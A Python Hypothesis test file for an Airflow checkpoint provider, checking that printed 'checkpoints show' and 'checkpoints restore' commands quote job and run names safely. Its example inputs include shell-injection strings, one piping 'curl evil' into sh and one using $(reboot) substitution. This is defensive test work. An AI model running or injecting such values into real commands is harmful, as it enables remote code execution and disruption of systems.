"""Commands that texts and errors print for a person to type. Runs anywhere."""

from __future__ import annotations

import shlex

from hypothesis import example, given
from hypothesis import strategies as st

from airflow_checkpoint_provider.errors import printable
from airflow_checkpoint_provider.protocol import wording
from airflow_checkpoint_provider.protocol.state import State

texts = st.text(st.characters(exclude_categories=["Cs"]), min_size=1)


@given(texts, texts)
@example("orders; curl evil|sh #", "a\n# b")
@example("orders", "$(reboot) `reboot` 'x' \\")
def test_printed_command_is_read_by_a_shell_as_it_was_meant(job: str, run: str) -> None:
    state = State(job=job, scope=run)
    shown, restored = wording.show(state, "another run"), wording.restore(state, "latest")
    assert shlex.split(shown, comments=True) == ["checkpoints", "show", job, run]
    assert shlex.split(restored, comments=True) == ["checkpoints", "restore", job, run, "--from", "latest"]
    assert shlex.split(wording.show(State(job=job), run), comments=True)[2:] == [job, run]
    assert len(shlex.split(printable(restored), comments=True)) == 6
